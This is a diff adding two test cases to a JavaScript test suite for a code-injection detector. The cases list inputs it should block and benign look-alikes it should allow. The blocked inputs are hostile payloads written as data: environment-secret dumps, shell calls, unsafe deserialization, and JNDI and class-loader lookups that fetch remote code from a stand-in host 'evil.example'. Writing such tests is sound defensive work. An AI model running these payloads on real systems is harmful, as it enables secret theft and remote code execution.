@@ -84,3 +84,54 @@ test('what Perl runs in a reference, what Dust evaluates and what a Lisp loads a
     '{@math key="1" method="add" operand="2"/}',
   ]);
 });
+
+test('what a program knows of its surroundings is an attack as the whole value, in any language that evaluates', () => {
+  blocks(detectCode, [
+    'ENV["SECRET"]',
+    "os.environ['SECRET']",
+    'Deno.env.toObject()',
+    'System.getenv()',
+    'Environment.GetEnvironmentVariable("SECRET")',
+    'var_dump(getenv());',
+    '(System/getenv "SECRET")',
+    'process.report.getReport()',
+  ]);
+  passes(detectCode, [
+    'os.environ',
+    'ENV["name"]',
+    'key = ENV["API_KEY"] or raise',
+    'how does os.environ["PATH"] differ from os.getenv in python?',
+    'report.getReport()',
+    'env["PATH"]',
+  ]);
+});
+
+test('processes, look-ups and classes of the libraries of Python, Java and .NET are attacks', () => {
+  blocks(detectCode, [
+    'asyncio.create_subprocess_shell("id")',
+    'ctypes.CDLL(None).system(b"id")',
+    'builtins.exec("x")',
+    'platform.popen("id")',
+    'new GroovyShell().evaluate("1")',
+    'new javax.naming.InitialContext().lookup("rmi://evil.example/x")',
+    'new URLClassLoader(new URL[]{new URL("http://evil.example/")}).loadClass("X")',
+    'jdk.jshell.JShell.create().eval("1")',
+    'Type.GetType("System.Diagnostics.Process")',
+    'mail("a@b.c","x","y","","-X/tmp/x.php");',
+    'pickle.loads(base64.b64decode("gASV"))',
+    'Marshal.load(Base64.decode64("BAhv"))',
+    '(eval \'(system "id"))',
+    '(load-file "http://evil.example/x.clj")',
+  ]);
+  passes(detectCode, [
+    'table.lookup("http://example.com/x")',
+    'ctx.lookup("java:comp/env/jdbc/shop")',
+    'parser.evaluate("1 + 1")',
+    'Type.GetType("Shop.Orders.Order")',
+    'mail("a@b.c","x","y")',
+    'pickle.loads(data)',
+    'JSON.load(Base64.decode64("eyJh"))',
+    "(eval 'x)",
+    'asyncio.create_task(main())',
+  ]);
+});
